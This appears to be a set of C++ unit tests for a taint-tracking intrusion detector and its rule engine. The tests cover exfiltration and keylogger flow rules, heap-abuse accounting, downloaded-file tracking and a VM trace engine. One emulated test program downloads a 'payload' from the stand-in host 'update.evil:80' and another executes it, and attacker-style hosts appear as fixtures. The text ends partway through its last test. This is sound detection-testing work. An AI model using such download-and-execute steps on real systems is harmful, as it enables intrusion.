        IoCase{SourceType::File, &USER, SourceType::File, &HARD, 1},
        IoCase{SourceType::File, &HARD, SourceType::File, &USER, 1},
        IoCase{SourceType::File, &HARD, SourceType::File, &HARD, 3},
        IoCase{SourceType::File, &REMOTE, SourceType::File, &USER, 3},
        // FILE -> SOCKET
        IoCase{SourceType::File, &USER, SourceType::Socket, &USER, 0},
        IoCase{SourceType::File, &USER, SourceType::Socket, &HARD, 1},
        IoCase{SourceType::File, &HARD, SourceType::Socket, &USER, 1},
        IoCase{SourceType::File, &HARD, SourceType::Socket, &HARD, 3},
        // SOCKET -> FILE
        IoCase{SourceType::Socket, &USER, SourceType::File, &USER, 0},
        IoCase{SourceType::Socket, &USER, SourceType::File, &HARD, 1},
        IoCase{SourceType::Socket, &HARD, SourceType::File, &USER, 1},
        IoCase{SourceType::Socket, &HARD, SourceType::File, &HARD, 3},
        // SOCKET -> SOCKET
        IoCase{SourceType::Socket, &HARD, SourceType::Socket, &HARD, 3},
        IoCase{SourceType::Socket, &USER, SourceType::Socket, &USER, 0},
        // HARDWARE -> FILE / SOCKET (§4.3 rule 2)
        IoCase{SourceType::Hardware, nullptr, SourceType::File, &USER,
               0},
        IoCase{SourceType::Hardware, nullptr, SourceType::File, &HARD,
               3},
        IoCase{SourceType::Hardware, nullptr, SourceType::Socket,
               &HARD, 3},
        // USER_INPUT -> FILE / SOCKET (keylogger / exfiltration)
        IoCase{SourceType::UserInput, nullptr, SourceType::File, &USER,
               0},
        IoCase{SourceType::UserInput, nullptr, SourceType::File, &HARD,
               3},
        IoCase{SourceType::UserInput, nullptr, SourceType::Socket,
               &HARD, 3},
        // Trusted binary origins are filtered everywhere.
        IoCase{SourceType::File, &TRUSTED, SourceType::File, &TRUSTED,
               0}));

TEST(SecpertIo, ServerContextEscalates)
{
    Secpert s;
    ResourceIoEvent ev = writeEvent(SourceType::File, {HARD},
                                    SourceType::Socket, {});
    ev.viaServer = true;
    ev.serverName = "LocalHost:11116";
    ev.serverOrigins = {HARD};
    s.onResourceIo(ev);
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].severity, Severity::High);
    EXPECT_NE(s.transcript().find(
                  "opened a socket for remote connections"),
              std::string::npos);
}

TEST(SecpertIo, ReadsDoNotFireWriteRules)
{
    Secpert s;
    ResourceIoEvent ev = writeEvent(SourceType::File, {HARD},
                                    SourceType::File, {HARD});
    ev.isWrite = false;
    s.onResourceIo(ev);
    EXPECT_TRUE(s.warnings().empty());
}

TEST(SecpertIo, RareCodeNoteAppended)
{
    Secpert s;
    ResourceIoEvent ev = writeEvent(SourceType::File, {HARD},
                                    SourceType::File, {HARD});
    ev.ctx.time = 500;
    ev.ctx.frequency = 1;
    s.onResourceIo(ev);
    EXPECT_NE(s.transcript().find("This code is rarely executed..."),
              std::string::npos);
}

//
// Configuration and embedding
//

TEST(SecpertConfig, ThresholdsApplied)
{
    PolicyConfig cfg;
    cfg.rareFrequency = 10;
    cfg.longTime = 50;
    Secpert s(cfg);
    // freq 5 < 10 and time 60 > 50 now escalate to Medium.
    s.onResourceAccess(execveEvent({HARD}, 60, 5));
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].severity, Severity::Medium);
}

TEST(SecpertConfig, CustomTrustList)
{
    PolicyConfig cfg;
    cfg.trustedBinaries = {"/apps/evil"};   // trust the "evil" app
    Secpert s(cfg);
    s.onResourceAccess(execveEvent({HARD}));
    EXPECT_TRUE(s.warnings().empty());
}

TEST(SecpertConfig, TrustedSocketsSupported)
{
    // "We do not trust any sockets although our implementation does
    // support this" — exercise the support.
    PolicyConfig cfg;
    cfg.trustedSockets = {"attacker:6667"};
    Secpert s(cfg);
    s.onResourceAccess(execveEvent({REMOTE}));
    EXPECT_TRUE(s.warnings().empty());
}

TEST(SecpertEmbed, UserRulesLoadAndFire)
{
    Secpert s;
    s.loadRules(
        "(defrule ban_tmp"
        "  (system_call_access (pid ?p) (system_call_name SYS_open)"
        "    (resource_name ?n))"
        "  (test (neq (str-index \"/tmp\" ?n) FALSE))"
        "  => (hth-warn 2 \"ban_tmp\" ?p (str-cat \"open \" ?n)))");
    ResourceAccessEvent ev;
    ev.ctx.pid = 4;
    ev.syscall = "SYS_open";
    ev.resName = "/tmp/x";
    ev.resType = SourceType::File;
    s.onResourceAccess(ev);
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].rule, "ban_tmp");
    EXPECT_EQ(s.warnings()[0].pid, 4);
}

TEST(SecpertEmbed, ResetClearsState)
{
    Secpert s;
    s.onResourceAccess(execveEvent({HARD}));
    ASSERT_FALSE(s.warnings().empty());
    s.reset();
    EXPECT_TRUE(s.warnings().empty());
    EXPECT_TRUE(s.transcript().empty());
    // Counters and statics are back: a clone event still works.
    s.onResourceAccess(cloneEvent(5));
    EXPECT_EQ(s.env().factsByTemplate("clone_stats").size(), 1u);
    // And the execve rule still fires after reset.
    s.onResourceAccess(execveEvent({HARD}));
    EXPECT_EQ(s.warnings().size(), 1u);
}

TEST(SecpertEmbed, StatsCount)
{
    Secpert s;
    s.onResourceAccess(execveEvent({HARD}));
    s.onResourceAccess(execveEvent({USER}));
    EXPECT_EQ(s.stats().eventsAnalyzed, 2u);
    EXPECT_EQ(s.stats().rulesFired, 1u);
}

TEST(Warnings, MaxSeverityHelper)
{
    EXPECT_EQ(maxSeverity({}), Severity::Low);
    std::vector<Warning> w = {{Severity::Low, "a", "", 0},
                              {Severity::High, "b", "", 0},
                              {Severity::Medium, "c", "", 0}};
    EXPECT_EQ(maxSeverity(w), Severity::High);
    EXPECT_STREQ(severityName(Severity::Low), "LOW");
    EXPECT_STREQ(severityName(Severity::Medium), "MEDIUM");
    EXPECT_STREQ(severityName(Severity::High), "HIGH");
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
