/**
 * @file
 * Tests for the §10 future-work extensions implemented on top of
 * the base policy: memory-abuse accounting (#4), cross-session
 * downloaded-file tracking (#5/#6) and user-feedback warning
 * suppression (#8) — plus end-to-end scenarios exercising them.
 */

#include <gtest/gtest.h>

#include "core/Hth.hh"
#include "secpert/Secpert.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::secpert;
using namespace hth::workloads;
using harrier::ResourceAccessEvent;
using harrier::ResourceIoEvent;
using taint::SourceType;

namespace
{

ResourceAccessEvent
brkEvent(uint64_t amount)
{
    ResourceAccessEvent ev;
    ev.ctx.pid = 1;
    ev.syscall = "SYS_brk";
    ev.amount = amount;
    return ev;
}

} // namespace

//
// Memory abuse (#4)
//

TEST(MemoryAbuse, WarnsOnceWhenCrossingThreshold)
{
    PolicyConfig cfg;
    cfg.maxHeapGrowth = 1000;
    Secpert s(cfg);
    s.onResourceAccess(brkEvent(600));
    EXPECT_TRUE(s.warnings().empty());
    s.onResourceAccess(brkEvent(600));      // total 1200 > 1000
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].rule, "resource_abuse_memory");
    EXPECT_EQ(s.warnings()[0].severity, Severity::Low);
    s.onResourceAccess(brkEvent(600));      // already above: silent
    EXPECT_EQ(s.warnings().size(), 1u);
}

TEST(MemoryAbuse, EndToEndHeapEater)
{
    HthOptions options;
    options.policy.maxHeapGrowth = 0x100000;    // 1 MB
    Hth hth(options);

    Gasm a("/t/eater");
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebp, 0);
    a.label("eat");
    a.movi(Reg::Ebx, 0);
    a.sysc(os::NR_brk);
    a.mov(Reg::Ebx, Reg::Eax);
    a.movi(Reg::Ecx, 0x80000);      // +512 KB per round
    a.add(Reg::Ebx, Reg::Ecx);
    a.sysc(os::NR_brk);
    a.addi(Reg::Ebp, 1);
    a.cmpi(Reg::Ebp, 4);
    a.jl("eat");
    a.exit(0);
    auto image = a.build();
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});
    EXPECT_EQ(report.countByRule("resource_abuse_memory"), 1u);
}

//
// Downloaded-file tracking (#5 / #6)
//

TEST(DownloadTracking, ExecOfDownloadedFileIsHigh)
{
    Secpert s;

    ResourceIoEvent dl;
    dl.ctx.pid = 1;
    dl.syscall = "SYS_write";
    dl.isWrite = true;
    dl.source.type = SourceType::Socket;
    dl.source.name = "update.evil:80";
    dl.targetName = "beagle.exe";
    dl.targetType = SourceType::File;
    dl.targetOrigins = {{SourceType::UserInput, "COMMAND_LINE"}};
    s.onResourceIo(dl);
    EXPECT_TRUE(s.warnings().empty());  // user-named target: quiet
    EXPECT_EQ(s.env().factsByTemplate("downloaded_file").size(), 1u);

    ResourceAccessEvent ex;
    ex.ctx.pid = 1;
    ex.syscall = "SYS_execve";
    ex.resName = "beagle.exe";
    ex.resType = SourceType::File;
    ex.origins = {{SourceType::UserInput, "COMMAND_LINE"}};
    s.onResourceAccess(ex);
    ASSERT_EQ(s.warnings().size(), 1u);
    EXPECT_EQ(s.warnings()[0].rule, "exec_downloaded");
    EXPECT_EQ(s.warnings()[0].severity, Severity::High);
}

TEST(DownloadTracking, UnrelatedExecNotFlagged)
{
    Secpert s;
    ResourceIoEvent dl;
    dl.ctx.pid = 1;
    dl.syscall = "SYS_write";
    dl.isWrite = true;
    dl.source.type = SourceType::Socket;
    dl.targetName = "beagle.exe";
    dl.targetType = SourceType::File;
    s.onResourceIo(dl);

    ResourceAccessEvent ex;
    ex.ctx.pid = 1;
    ex.syscall = "SYS_execve";
    ex.resName = "/bin/other";
    ex.resType = SourceType::File;
    ex.origins = {{SourceType::UserInput, "COMMAND_LINE"}};
    s.onResourceAccess(ex);
    EXPECT_TRUE(s.warnings().empty());
}

TEST(DownloadTracking, SurvivesAcrossMonitoredRuns)
{
    // Stage 1: a downloader fetches a payload to disk. Stage 2 (a
    // separate execution under the same HTH session) runs it. The
    // cross-session memory connects the two — the §10 scenario
    // "when data is downloaded to a file we will be able to see how
    // that file is being used in later executions".
    Hth hth;
    os::Kernel &k = hth.kernel();
    k.net().addHost("update.evil");
    os::RemotePeer server;
    server.name = "update.evil:80";
    server.onConnect = [](os::RemoteConn &c) {
        c.send("payload-image-bytes");
    };
    k.net().addRemoteServer("update.evil:80", server);

    Gasm d("/t/downloader");
    d.dataString("site", "update.evil:80");
    d.dataSpace("argv_slot", 4);
    d.dataSpace("buf", 64);
    d.label("main");
    d.entry("main");
    d.leaSym(Reg::Edi, "argv_slot");
    d.store(Reg::Edi, 0, Reg::Ebx);
    d.sockCreate();
    d.mov(Reg::Ebp, Reg::Eax);
    d.leaSym(Reg::Edx, "site");
    d.sockConnect(Reg::Ebp, Reg::Edx);
    d.leaSym(Reg::Edx, "buf");
    d.sockRecv(Reg::Ebp, Reg::Edx, 63);
    d.mov(Reg::Edi, Reg::Eax);
    d.leaSym(Reg::Edi, "argv_slot");
    d.load(Reg::Ebx, Reg::Edi, 0);
    d.loadArgv(1);                   // user names the landing file
    d.creatReg(Reg::Eax);
    d.mov(Reg::Esi, Reg::Eax);
    d.mov(Reg::Ebx, Reg::Esi);
    d.leaSym(Reg::Ecx, "buf");
    d.movi(Reg::Edx, 19);
    d.sysc(os::NR_write);
    d.exit(0);
    auto downloader = d.build();
    k.vfs().addBinary(downloader->path, downloader);

    Gasm r("/t/runner");
    r.dataSpace("argv_slot", 4);
    r.label("main");
    r.entry("main");
    r.loadArgv(1);
    r.execveReg(Reg::Eax);
    r.exit(0);
    auto runner = r.build();
    k.vfs().addBinary(runner->path, runner);

    Report first = hth.monitor(downloader->path,
                               {downloader->path, "tool.exe"});
    EXPECT_FALSE(first.flagged(Severity::High));

    Report second = hth.monitor(runner->path,
                                {runner->path, "tool.exe"});
    EXPECT_GT(second.countByRule("exec_downloaded"), 0u);
    EXPECT_TRUE(second.flagged(Severity::High));
}

//
// Warning suppression (#8)
//

TEST(Suppression, AcknowledgedWarningsDropped)
{
    Secpert s;
    ResourceAccessEvent ev;
    ev.ctx.pid = 1;
    ev.ctx.time = 10;
    ev.ctx.frequency = 5;
    ev.syscall = "SYS_execve";
    ev.resName = "/bin/ls";
    ev.resType = SourceType::File;
    ev.origins = {{SourceType::Binary, "/apps/mine"}};

    s.onResourceAccess(ev);
    ASSERT_EQ(s.warnings().size(), 1u);

    s.suppress("check_execve", "/bin/ls");
    s.onResourceAccess(ev);
    EXPECT_EQ(s.warnings().size(), 1u);     // unchanged
    EXPECT_EQ(s.stats().warningsSuppressed, 1u);

    // A different resource still warns.
    ev.resName = "/bin/other";
    s.onResourceAccess(ev);
    EXPECT_EQ(s.warnings().size(), 2u);
}

TEST(Suppression, EmptyMessagePatternMatchesRuleWide)
{
    Secpert s;
    s.suppress("resource_abuse");
    ResourceAccessEvent clone;
    clone.ctx.pid = 1;
    clone.syscall = "SYS_clone";
    clone.isProcessCreate = true;
    for (int i = 0; i < 40; ++i) {
        clone.ctx.absTime = (uint64_t)i;
        s.onResourceAccess(clone);
    }
    EXPECT_TRUE(s.warnings().empty());
    EXPECT_GT(s.stats().warningsSuppressed, 0u);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
