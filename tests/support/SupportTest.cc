/**
 * @file
 * Unit tests for the support utilities.
 */

#include <gtest/gtest.h>

#include "support/InternTable.hh"
#include "support/Logging.hh"
#include "support/StrUtil.hh"

using namespace hth;

TEST(StrUtil, Split)
{
    EXPECT_EQ(split("a,b,c", ','),
              (std::vector<std::string>{"a", "b", "c"}));
    EXPECT_EQ(split("a,,c", ','),
              (std::vector<std::string>{"a", "", "c"}));
    EXPECT_EQ(split("", ','), (std::vector<std::string>{""}));
    EXPECT_EQ(split("abc", ','), (std::vector<std::string>{"abc"}));
    EXPECT_EQ(split(",", ','), (std::vector<std::string>{"", ""}));
}

TEST(StrUtil, SplitWs)
{
    EXPECT_EQ(splitWs("  a  b\tc \n"),
              (std::vector<std::string>{"a", "b", "c"}));
    EXPECT_TRUE(splitWs("   ").empty());
    EXPECT_TRUE(splitWs("").empty());
}

TEST(StrUtil, Join)
{
    EXPECT_EQ(join({"a", "b", "c"}, ", "), "a, b, c");
    EXPECT_EQ(join({}, ", "), "");
    EXPECT_EQ(join({"solo"}, ", "), "solo");
}

TEST(StrUtil, StartsEndsWith)
{
    EXPECT_TRUE(startsWith("/bin/ls", "/bin"));
    EXPECT_FALSE(startsWith("/bin", "/bin/ls"));
    EXPECT_TRUE(endsWith("file.txt", ".txt"));
    EXPECT_FALSE(endsWith(".txt", "file.txt"));
    EXPECT_TRUE(startsWith("x", ""));
    EXPECT_TRUE(endsWith("x", ""));
}

TEST(StrUtil, Trim)
{
    EXPECT_EQ(trim("  abc  "), "abc");
    EXPECT_EQ(trim("abc"), "abc");
    EXPECT_EQ(trim(" \t\n "), "");
    EXPECT_EQ(trim(""), "");
}

TEST(StrUtil, ToLower)
{
    EXPECT_EQ(toLower("AbC123"), "abc123");
}

TEST(StrUtil, EscapeBytes)
{
    EXPECT_EQ(escapeBytes("ab\ncd"), "ab\\ncd");
    EXPECT_EQ(escapeBytes(std::string("\x01", 1)), "\\x01");
    EXPECT_EQ(escapeBytes("tab\there"), "tab\\there");
    EXPECT_EQ(escapeBytes("back\\slash"), "back\\\\slash");
}

TEST(StrUtil, ExtractStrings)
{
    std::vector<uint8_t> bytes;
    auto add = [&bytes](const std::string &s) {
        for (char c : s)
            bytes.push_back((uint8_t)c);
        bytes.push_back(0);
    };
    add("/bin/sh");
    add("ab"); // below the default minimum length
    add("evil.example.com:6667");
    auto found = extractStrings(bytes);
    ASSERT_EQ(found.size(), 2u);
    EXPECT_EQ(found[0], "/bin/sh");
    EXPECT_EQ(found[1], "evil.example.com:6667");
}

TEST(StrUtil, ExtractStringsUnterminatedTail)
{
    std::vector<uint8_t> bytes = {'t', 'a', 'i', 'l', 's'};
    auto found = extractStrings(bytes);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0], "tails");
}

TEST(InternTable, Basics)
{
    InternTable table;
    auto a = table.intern("alpha");
    auto b = table.intern("beta");
    auto a2 = table.intern("alpha");
    EXPECT_EQ(a, a2);
    EXPECT_NE(a, b);
    EXPECT_EQ(table.lookup(a), "alpha");
    EXPECT_EQ(table.lookup(b), "beta");
    EXPECT_EQ(table.size(), 2u);
    EXPECT_THROW(table.lookup(99), PanicError);
}

TEST(Logging, PanicAndFatal)
{
    EXPECT_THROW(panic("boom ", 42), PanicError);
    EXPECT_THROW(fatal("bad input: ", "x"), FatalError);
    EXPECT_NO_THROW(panicIf(false, "fine"));
    EXPECT_THROW(panicIf(true, "not fine"), PanicError);
    EXPECT_NO_THROW(fatalIf(false, "fine"));
    EXPECT_THROW(fatalIf(true, "not fine"), FatalError);
    try {
        panic("value=", 7, " name=", "x");
    } catch (const PanicError &e) {
        EXPECT_STREQ(e.what(), "panic: value=7 name=x");
    }
}

TEST(Logging, WarnInformRouteThroughSink)
{
    std::vector<std::pair<LogLevel, std::string>> captured;
    LogSink previous =
        setLogSink([&](LogLevel level, const std::string &msg) {
            captured.emplace_back(level, msg);
        });
    warn("tainted jump to ", 0xdead, " in ", "/bin/evil");
    inform("fleet drained");
    setLogSink(std::move(previous));
    // After restore, output goes back to the previous sink, not ours.
    inform("not captured");

    ASSERT_EQ(captured.size(), 2u);
    EXPECT_EQ(captured[0].first, LogLevel::Warn);
    EXPECT_EQ(captured[0].second,
              "tainted jump to 57005 in /bin/evil");
    EXPECT_EQ(captured[1].first, LogLevel::Inform);
    EXPECT_EQ(captured[1].second, "fleet drained");
}

TEST(Logging, LogLevelNames)
{
    EXPECT_STREQ(logLevelName(LogLevel::Warn), "warn");
    EXPECT_STREQ(logLevelName(LogLevel::Inform), "inform");
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
