/**
 * @file
 * Unit tests for the trace-linking engine: superblock formation,
 * budget-exact pause/resume, untainted specialization and its
 * deoptimization guards, invalidation, the ablation toggle, and the
 * instrumentation-hook interactions (including callbacks that
 * invalidate the block cache mid-execution).
 */

#include <gtest/gtest.h>

#include "taint/TagSet.hh"
#include "vm/Asm.hh"
#include "vm/Machine.hh"

using namespace hth;
using namespace hth::vm;
using taint::SourceType;
using taint::TagSetId;
using taint::TagStore;

namespace
{

/** Load @p image into @p m positioned at its entry. */
void
loadAt(Machine &m, std::shared_ptr<const Image> image,
       taint::ResourceId res = 1)
{
    const LoadedImage &li = m.loadImage(std::move(image), res);
    m.setEip(li.base + li.image->entry);
}

/** Drive @p m to halt through run() (the trace-dispatch surface;
 * step() never enters traces). Returns total retired instructions. */
uint64_t
runAll(Machine &m, uint64_t chunk = 1 << 20)
{
    uint64_t total = 0;
    while (!m.halted()) {
        uint64_t n = 0;
        StepResult r = m.run(chunk, n);
        total += n;
        if (r.kind == StepKind::Fault) {
            ADD_FAILURE() << "fault: " << r.faultReason;
            break;
        }
        if (r.kind == StepKind::Halted)
            break;
        EXPECT_NE(r.kind, StepKind::Syscall) << "unexpected syscall";
        EXPECT_NE(r.kind, StepKind::Native) << "unexpected native";
    }
    return total;
}

/** A counting loop long enough to cross HOT_THRESHOLD many times. */
std::shared_ptr<const Image>
makeHotLoop(int n)
{
    Asm a("/t/hot");
    a.movi(Reg::Ecx, 0);
    a.label("loop");
    a.addi(Reg::Ecx, 1);
    a.cmpi(Reg::Ecx, n);
    a.jl("loop");
    a.halt();
    return a.build();
}

/** A loop that loads from and stores to bss every iteration (the
 * memory ops the untainted specialization rewrites). */
std::shared_ptr<const Image>
makeMemLoop(int n)
{
    Asm a("/t/mem");
    a.dataSpace("buf", 64);
    a.movi(Reg::Ecx, 0);
    a.label("loop");
    a.leaSym(Reg::Esi, "buf");
    a.load(Reg::Eax, Reg::Esi, 0);
    a.store(Reg::Esi, 4, Reg::Eax);
    a.addi(Reg::Ecx, 1);
    a.cmpi(Reg::Ecx, n);
    a.jl("loop");
    a.halt();
    return a.build();
}

} // namespace

TEST(Superblock, FormsOnHotLoopAndCountsDispatch)
{
    TagStore tags;
    Machine m(tags);
    ASSERT_TRUE(m.superblocksEnabled());
    loadAt(m, makeHotLoop(500));
    runAll(m);

    const MachineStats &st = m.stats();
    EXPECT_EQ(m.reg(Reg::Ecx), 500u);
    EXPECT_GE(st.superblocksFormed, 1u);
    EXPECT_GE(st.superblockEntries, 1u);
    EXPECT_GT(st.superblockInsns, 0u);
    EXPECT_LE(st.superblockInsns, st.instructions);
    // The loop body re-dispatches in-trace: the overwhelming share
    // of instructions must retire inside the trace.
    EXPECT_GT(st.superblockInsns * 10, st.instructions * 9);
    EXPECT_EQ(st.superblockDeopts, 0u);
}

TEST(Superblock, AblationTogglesEngineOffIdentically)
{
    TagStore tagsOn, tagsOff;
    Machine on(tagsOn), off(tagsOff);
    off.setSuperblocks(false);
    EXPECT_FALSE(off.superblocksEnabled());
    loadAt(on, makeHotLoop(300));
    loadAt(off, makeHotLoop(300));
    uint64_t nOn = runAll(on);
    uint64_t nOff = runAll(off);

    // Same architectural outcome, no traces on the ablated side.
    EXPECT_EQ(nOn, nOff);
    EXPECT_EQ(on.stats().instructions, off.stats().instructions);
    EXPECT_EQ(on.stats().basicBlocks, off.stats().basicBlocks);
    EXPECT_EQ(on.reg(Reg::Ecx), off.reg(Reg::Ecx));
    EXPECT_GE(on.stats().superblocksFormed, 1u);
    EXPECT_EQ(off.stats().superblocksFormed, 0u);
    EXPECT_EQ(off.stats().superblockInsns, 0u);
}

TEST(Superblock, BudgetExactPauseAndResume)
{
    // Drive the hot loop in awkward budgets so every pause lands
    // mid-trace; accounting must stay instruction-exact and the
    // architectural result identical to a step()-driven twin.
    TagStore tagsA, tagsB;
    Machine a(tagsA), b(tagsB);
    loadAt(a, makeHotLoop(300));
    loadAt(b, makeHotLoop(300));

    uint64_t executed = 0;
    uint64_t budget = 1;
    while (!a.halted()) {
        uint64_t n = 0;
        StepResult r = a.run(budget, n);
        ASSERT_NE(r.kind, StepKind::Fault) << r.faultReason;
        EXPECT_LE(n, budget);
        executed += n;
        budget = budget % 13 + 1; // 1..13, co-prime with the loop
    }
    while (!b.halted())
        b.step();

    EXPECT_EQ(executed, a.stats().instructions);
    EXPECT_EQ(a.stats().instructions, b.stats().instructions);
    EXPECT_EQ(a.stats().basicBlocks, b.stats().basicBlocks);
    EXPECT_EQ(a.reg(Reg::Ecx), b.reg(Reg::Ecx));
    // Small budgets still enter traces (pause/resume fast path).
    EXPECT_GT(a.stats().superblockInsns, 0u);
}

TEST(Superblock, UntaintedSpecializationProvenAndKept)
{
    TagStore tags;
    Machine m(tags);
    m.setTaintTracking(true);
    // bss-only image: nothing taints the shadow, so the trace is
    // provably untainted and must never deoptimize.
    loadAt(m, makeMemLoop(300));
    runAll(m);

    EXPECT_EQ(m.reg(Reg::Ecx), 300u);
    EXPECT_GE(m.stats().superblocksFormed, 1u);
    EXPECT_GT(m.stats().superblockInsns, 0u);
    EXPECT_EQ(m.stats().superblockDeopts, 0u);
    // The loaded value was never tainted.
    EXPECT_EQ(m.regTag(Reg::Eax), TagStore::EMPTY);
}

TEST(Superblock, DeoptWhenShadowMaterializes)
{
    TagStore tags;
    Machine m(tags);
    m.setTaintTracking(true);
    loadAt(m, makeMemLoop(400));

    // Run far enough for the specialized trace to form and run.
    uint64_t n = 0;
    ASSERT_EQ(m.run(600, n).kind, StepKind::Ok);
    ASSERT_GE(m.stats().superblocksFormed, 1u);
    ASSERT_EQ(m.stats().superblockDeopts, 0u);

    // An external taint source materializes a shadow page: the
    // emptiness proof is void, the entry guard must deoptimize and
    // the path re-form without the specialization.
    TagSetId tag =
        tags.single({SourceType::UserInput, taint::NO_RESOURCE});
    const uint32_t bufAddr = m.images().front().base +
                             m.images().front().image->bssOffset();
    m.shadow().set(bufAddr, tag);

    runAll(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 400u);
    EXPECT_GE(m.stats().superblockDeopts, 1u);
    EXPECT_GE(m.stats().superblocksFormed, 2u); // re-formed
    // The re-formed generic-taint trace now propagates: the load
    // from the tainted buffer taints Eax.
    EXPECT_EQ(m.regTag(Reg::Eax), tag);
}

TEST(Superblock, DeoptWhenTaintReachesSpecializedStore)
{
    TagStore tags;
    Machine m(tags);
    m.setTaintTracking(true);
    // The stored register is zeroed with xor r,r (which clears its
    // tag, §7.3.1) outside the loop and never written inside it, so
    // the specialized trace stores a provably-untainted value —
    // until the test taints the register externally.
    Asm a("/t/st");
    a.dataSpace("buf", 64);
    a.movi(Reg::Ecx, 0);
    a.xor_(Reg::Edx, Reg::Edx);
    a.label("loop");
    a.leaSym(Reg::Esi, "buf");
    a.store(Reg::Esi, 0, Reg::Edx);
    a.addi(Reg::Ecx, 1);
    a.cmpi(Reg::Ecx, 400);
    a.jl("loop");
    a.halt();
    loadAt(m, a.build());

    // Pause mid-run with the specialized trace live, then taint the
    // register the trace stores through. The in-trace deopt guard
    // must catch the tainted store, perform the generic operation
    // (shadow updated!) and unpublish the trace.
    uint64_t n = 0;
    ASSERT_EQ(m.run(600, n).kind, StepKind::Ok);
    ASSERT_GE(m.stats().superblocksFormed, 1u);
    ASSERT_EQ(m.stats().superblockDeopts, 0u);

    TagSetId tag =
        tags.single({SourceType::Socket, taint::NO_RESOURCE});
    m.setRegTag(Reg::Edx, tag);

    runAll(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 400u);
    EXPECT_GE(m.stats().superblockDeopts, 1u);
    // The deopting store wrote its taint through before exiting.
    const uint32_t bufAddr = m.images().front().base +
                             m.images().front().image->bssOffset();
    EXPECT_EQ(m.shadow().rangeUnion(tags, bufAddr, 4), tag);
}

TEST(Superblock, ResetForExecDropsTraces)
{
    TagStore tags;
    Machine m(tags);
    loadAt(m, makeHotLoop(200));
    runAll(m);
    ASSERT_GE(m.stats().superblocksFormed, 1u);
    const uint64_t invs = m.stats().blockCacheInvalidations;

    // execve: traces hold image pointers and decoded text — they
    // must die with the block cache.
    m.resetForExec();
    EXPECT_EQ(m.stats().blockCacheInvalidations, invs + 1);

    loadAt(m, makeHotLoop(100));
    runAll(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 100u);
    EXPECT_GE(m.stats().superblocksFormed, 2u);
}

namespace
{

/** An instrumentor that maps a shared object once, mid-execution,
 * from a chosen callback — invalidating the block cache while the
 * machine is inside a step or a trace. */
struct MidRunLoader : Instrumentor
{
    Machine *m = nullptr;
    int triggerBb = -1;     //!< basicBlock() count that loads
    int triggerInsn = -1;   //!< instruction() count that loads
    bool wantInsns = false;
    int bbs = 0;
    int insns = 0;
    bool loaded = false;

    void
    maybeLoad()
    {
        if (loaded)
            return;
        loaded = true;
        Asm so("/t/mid.so", /*shared_object=*/true);
        so.label("fn");
        so.ret();
        m->loadImage(so.build(), 7);
    }
    void
    basicBlock(Machine &, uint32_t) override
    {
        if (++bbs == triggerBb)
            maybeLoad();
    }
    bool wantsInstructions() const override { return wantInsns; }
    void
    instruction(Machine &, const Instruction &, uint32_t) override
    {
        if (++insns == triggerInsn)
            maybeLoad();
    }
};

} // namespace

TEST(Superblock, InstructionHookForcesGenericDispatch)
{
    // The per-instruction hook observes one instruction at a time;
    // traces batch them, so the engine must stand down entirely.
    TagStore tags;
    Machine m(tags);
    MidRunLoader ins;
    ins.m = &m;
    ins.wantInsns = true;
    m.setInstrumentor(&ins);
    loadAt(m, makeHotLoop(200));
    runAll(m);

    EXPECT_EQ(m.reg(Reg::Ecx), 200u);
    EXPECT_EQ(m.stats().superblocksFormed, 0u);
    EXPECT_EQ(m.stats().superblockInsns, 0u);
    EXPECT_EQ((uint64_t)ins.insns, m.stats().instructions);
}

TEST(Superblock, InstructionHookLoadImageMidStepRecovers)
{
    // Regression for the generic-loop staleness fix: an
    // instruction() callback that invalidates the block cache used
    // to leave the loop iterating over freed decoded text.
    TagStore tags;
    Machine m(tags);
    MidRunLoader ins;
    ins.m = &m;
    ins.wantInsns = true;
    ins.triggerInsn = 150; // mid-loop, inside a cached block
    m.setInstrumentor(&ins);
    loadAt(m, makeHotLoop(200));
    runAll(m);

    EXPECT_TRUE(ins.loaded);
    EXPECT_EQ(m.reg(Reg::Ecx), 200u);
    EXPECT_EQ((uint64_t)ins.insns, m.stats().instructions);
}

TEST(Superblock, BasicBlockHookLoadImageMidTraceRecovers)
{
    // The block-boundary callback fires from inside executing
    // traces too. Invalidation there frees the very ops array being
    // executed (parked in retiredSbs_ until the trace exits); the
    // generation check must exit the trace and re-enter generically
    // with the architectural state intact.
    TagStore tags;
    Machine m(tags);
    MidRunLoader ins;
    ins.m = &m;
    ins.triggerBb = 60; // after the loop trace formed (threshold 16)
    m.setInstrumentor(&ins);
    loadAt(m, makeHotLoop(200));
    runAll(m);

    EXPECT_TRUE(ins.loaded);
    EXPECT_EQ(m.reg(Reg::Ecx), 200u);
    EXPECT_GE(m.stats().superblocksFormed, 1u);
    EXPECT_GE(m.stats().blockCacheInvalidations, 1u);
}

TEST(Superblock, PausedTraceSurvivesInvalidationBetweenRuns)
{
    // Pause inside a trace, invalidate, resume: the paused-trace
    // fast path must notice the generation change and fall back to
    // generic dispatch instead of dereferencing the dead trace.
    TagStore tags;
    Machine m(tags);
    loadAt(m, makeHotLoop(300));

    uint64_t n = 0;
    ASSERT_EQ(m.run(500, n).kind, StepKind::Ok); // paused mid-trace
    ASSERT_GE(m.stats().superblocksFormed, 1u);

    Asm so("/t/pause.so", /*shared_object=*/true);
    so.label("fn");
    so.ret();
    m.loadImage(so.build(), 9); // invalidates everything

    runAll(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 300u);
}

TEST(Superblock, ThreadedDispatchReportsCompileTimeChoice)
{
